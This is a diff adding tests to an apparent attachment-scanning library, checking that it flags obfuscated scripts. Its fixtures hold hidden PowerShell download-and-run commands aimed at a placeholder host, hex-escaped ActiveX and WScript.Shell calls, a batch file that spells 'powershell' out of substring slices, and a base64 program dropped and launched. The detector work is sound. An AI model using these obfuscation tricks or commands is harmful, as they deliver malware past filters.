@@ -161,6 +161,26 @@ import Testing
     #expect(AttachmentInspector().inspect(Array(page.utf8)).techniques.map(\.id).contains("credential-form-external"))
   }
 
+  @Test func scriptsWithoutATellingWordAreFound() {
+    func spelled(_ text: String) -> String { text.utf8.map { "\\x" + String($0, radix: 16) }.joined() }
+    let script =
+      "var a=this['\(spelled("ActiveXObject"))'];x(new a('\(spelled("WScript.Shell"))'),'\(spelled("powershell -w hidden http://x.example/a"))')"
+    let verdict = AttachmentInspector().inspect(Array(script.utf8))
+    #expect(verdict.techniques.map(\.id).contains("script-obfuscated"))
+    #expect(verdict.urls == ["http://x.example/a"])
+    let harmless = "var a=['\(spelled("Guten Tag"))','\(spelled("Auf Wiedersehen"))'];eval(b)"
+    #expect(AttachmentInspector().inspect(Array(harmless.utf8)).level == .info)
+  }
+
+  @Test func batchFilesOfPiecesAreScripts() {
+    let letters = "set q=abcdefghijklmnopqrstuvwxyz\n"
+    func cut(_ word: String) -> String { word.utf8.map { "%q:~\($0 - 97),1%" }.joined() }
+    let verdict = AttachmentInspector().inspect(
+      Array((letters + cut("powershell") + " -w " + cut("hidden") + " http://x.example/a\n").utf8))
+    #expect(verdict.type == .script)
+    #expect(verdict.techniques.map(\.id).contains("script-download-run"))
+  }
+
   @Test func programsInBase64AreMembers() {
     let script =
       "$b=[Convert]::FromBase64String('\(Samples.base64(Samples.program))');[IO.File]::WriteAllBytes($p,$b);Start-Process $p"
